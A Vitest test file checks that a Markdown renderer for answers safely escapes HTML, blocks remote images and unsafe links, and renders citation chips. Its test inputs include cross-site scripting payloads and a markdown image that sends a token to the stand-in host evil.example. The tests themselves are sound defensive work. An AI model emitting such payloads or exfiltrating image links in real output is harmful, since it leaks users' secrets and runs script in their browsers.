import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown';
import { safeLinkHref } from './safe-url';

const html = (text: string, renderCitation?: (index: number) => string | undefined) =>
  renderToStaticMarkup(<Markdown text={text} renderCitation={renderCitation} />);

describe('Markdown in answers', () => {
  it('shows raw HTML as text, so no script or handler reaches the page', () => {
    const out = html('Hi <script>alert(1)</script>\n\n<div onclick="x()">hey</div> <b>bold</b>');
    expect(out).not.toContain('<script');
    expect(out).not.toContain('<div onclick');
    expect(out).not.toContain('<b>');
    expect(out).toContain('&lt;script&gt;');
  });

  it('never loads an image: a remote image is replaced by its alt text', () => {
    const out = html(
      '![secret](https://evil.example/x.png?d=token) and ![](data:image/png;base64,AA)',
    );
    expect(out).not.toContain('<img');
    expect(out).not.toContain('evil.example');
    expect(out).toContain('[image: secret]');
  });

  it('opens links in a new tab, marked external, without the referrer', () => {
    const out = html('See [the docs](https://example.com/docs).');
    expect(out).toContain('href="https://example.com/docs"');
    expect(out).toContain('target="_blank"');
    expect(out).toContain('rel="noopener noreferrer nofollow external"');
    expect(out).toContain('external link');
  });

  it('drops javascript: and data: links, keeping their text', () => {
    const out = html('[click](javascript:alert(1)) [data](data:text/html,<script>x</script>)');
    expect(out).not.toContain('href=');
    expect(out).toContain('click');
    expect(safeLinkHref(' JavaScript:alert(1)')).toBeUndefined();
    expect(safeLinkHref('/v1/admin')).toBeUndefined();
    expect(safeLinkHref('mailto:a@example.com')).toBe('mailto:a@example.com');
  });

  it('renders code, lists and tables', () => {
    const out = html(
      '`a<b>`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx < y\n```',
    );
    expect(out).toContain('<code>a&lt;b&gt;</code>');
    expect(out).toContain('<li>one</li>');
    expect(out).toContain('<td>2</td>');
    expect(out).toContain('<pre><code>x &lt; y</code></pre>');
  });

  it('turns known citation markers into chips and leaves unknown ones as text', () => {
    const out = html('Roll back with the CLI [1]. Not cited [7].', (index) =>
      index === 1 ? `chip-${index}` : undefined,
    );
    expect(out).toContain('Roll back with the CLI chip-1.');
    expect(out).toContain('Not cited [7].');
  });
});
